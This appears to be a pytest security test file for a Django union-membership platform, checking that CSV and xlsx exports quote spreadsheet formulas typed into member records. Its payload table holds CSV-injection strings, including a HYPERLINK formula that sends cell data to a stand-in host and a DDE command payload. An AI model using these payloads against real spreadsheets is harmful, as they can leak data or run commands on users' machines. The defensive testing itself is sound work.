"""Issue 13 finding 6: formulas typed into a member's record (工作单位, 职业) must not survive
into any CSV or .xlsx the platform writes — one neutraliser (`gonghui.core.sheets`)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from django.core.management import call_command
from django.urls import reverse

from conftest import login
from gonghui.core.cells import cell_text
from gonghui.core.sheets import SafeSheet, neutralise, safe_row
from gonghui.core.testing import synthetic_id_number
from gonghui.roster.models import ExportJob
from tests.security.battery import record

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "=HYPERLINK(\"http://x.example/?\"&A2,\"点此\")": "'=HYPERLINK(\"http://x.example/?\"&A2,\"点此\")",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("raw", "safe"), PAYLOADS.items())
def test_neutralise_quotes_every_formula_start(raw, safe):
    assert neutralise(raw) == safe


@pytest.mark.parametrize("value", ["上海某某公司", "-12.50", "+86", "13812345678", 5, -3,
                                   Decimal("-1.00"), dt.date(2026, 1, 2), None, ""])
def test_neutralise_leaves_harmless_cells_alone(value):
    assert neutralise(value) == value


def test_importers_take_the_quote_off_again():
    for raw, safe in PAYLOADS.items():
        assert cell_text(safe) == raw.strip()
    assert cell_text("'张三") == "'张三"  # an apostrophe that is not the neutraliser's stays


def _member(union, employer: str, occupation: str, n: int):
    from gonghui.accounts.models import User
    from gonghui.members.services import member_add

    registrar = User.objects.get_or_create(username="registry_bot",
                                           defaults={"is_superuser": True})[0]
    fields = {"name": "张" + "甲乙丙丁"[n], "id_number": synthetic_id_number(birth="19850101"),
              "phone": "13812345678", "ethnicity": "汉族", "education": "高中",
              "political_status": "群众", "household_type": "城镇",
              "employment_form": "劳动合同制", "employer_name": employer,
              "occupation": occupation, "monthly_wage": "5000"}
    return member_add(union=union, fields=fields, actor=registrar,
                      joined_on=dt.date(2015, 3, 1)).person


@pytest.fixture
def hostile_members(tree):
    items = list(PAYLOADS)
    for n, raw in enumerate(items[:4]):
        _member(tree["SH-A-1-1"], raw, items[(n + 1) % 4], n)
    return items[:4]


def _cells_of_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _cells_of_xlsx(data: bytes | Path) -> list[object]:
    source = io.BytesIO(data) if isinstance(data, bytes) else data
    book = openpyxl.load_workbook(source)
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(cells: list) -> None:
    """No cell of one export begins a formula (counted as one request of the battery)."""
    texts = [c for c in cells if isinstance(c, str)]
    formulas = [c for c in texts if c.startswith(("=", "+", "-", "@", "\t", "\r"))
                and c.lstrip("+-").replace(".", "").isdigit() is False]
    record("formula injection", requests=1, leaks=len(formulas))
    assert formulas == []


def test_export_members_command_csv_and_xlsx(tree, hostile_members, tmp_path):
    out = tmp_path / "x.csv"
    call_command("export_members", "--union", "SH-A", "--out", str(out), stdout=io.StringIO(),
                 stderr=io.StringIO())
    cells = _cells_of_csv(out.read_text(encoding="utf-8-sig"))
    for raw in hostile_members:
        assert PAYLOADS[raw] in cells
        assert raw not in cells
    _no_formula(cells)
    xlsx = tmp_path / "x.xlsx"
    call_command("export_members", "--union", "SH-A", "--out", str(xlsx), stdout=io.StringIO(),
                 stderr=io.StringIO())
    values = _cells_of_xlsx(xlsx)
    for raw in hostile_members:
        assert PAYLOADS[raw] in values
    _no_formula(values)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_roster_export_page(client, tree, hostile_members, grassroots_cadre, file_format,
                            settings, tmp_path, django_capture_on_commit_callbacks):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    login(client, grassroots_cadre)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("roster:export_create"),
                    {"union": "SH-A-1-1", "file_format": file_format})
    job = ExportJob.objects.get()
    content = b"".join(client.get(reverse("roster:export_download", args=[job.pk]))
                       .streaming_content)
    cells = (_cells_of_csv(content.decode("utf-8-sig")) if file_format == "csv"
             else _cells_of_xlsx(content))
    assert sorted(c for c in cells if isinstance(c, str) and c.startswith("'")) == sorted(
        PAYLOADS[r] for r in hostile_members for _twice in (1, 2))
    _no_formula(cells)


def test_bank_transfer_file():
    from gonghui.mutualaid.bankfiles import TransferLine, write_transfer_file

    data = write_transfer_file([TransferLine("R1", "=1+1", "6222020000000000", "@银行",
                                             Decimal("100.00"), "-2+3")])
    cells = _cells_of_csv(data.decode("utf-8-sig"))
    assert cells[7:] == ["1", "R1", "'=1+1", "6222020000000000", "'@银行", "100.00", "'-2+3"]
    _no_formula(cells)


def test_safe_sheet_openpyxl_and_xlsxwriter(tmp_path):
    book = openpyxl.Workbook(write_only=True)
    sheet = SafeSheet(book.create_sheet("s"))
    sheet.append(["=1+1", 3, "正常"])
    book.save(tmp_path / "a.xlsx")
    assert _cells_of_xlsx(tmp_path / "a.xlsx") == ["'=1+1", 3, "正常"]
    book2 = xlsxwriter.Workbook(str(tmp_path / "b.xlsx"))
    sheet2 = SafeSheet(book2.add_worksheet("s"))
    sheet2.write(0, 0, "=1+1")
    sheet2.write_row(1, 0, ["@A1", 2])
    sheet2.write_string(2, 0, "+A1")
    book2.close()
    assert _cells_of_xlsx(tmp_path / "b.xlsx") == ["'=1+1", None, "'@A1", 2, "'+A1", None]
    assert safe_row(["-1", "-x"]) == ["-1", "'-x"]


def test_every_writer_uses_the_neutraliser():
    """Every writer of the platform goes through core.sheets (a new one must too)."""
    import gonghui

    root = Path(gonghui.__file__).parent
    writers = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "samples.py" or path.name == "sheets.py":
            continue
        text = path.read_text()
        if "csv.writer(" in text or "Workbook(" in text:
            writers.append(path.relative_to(root).as_posix())
    unsafe = [w for w in writers
              if "gonghui.core.sheets" not in (root / w).read_text()]
    assert unsafe == []
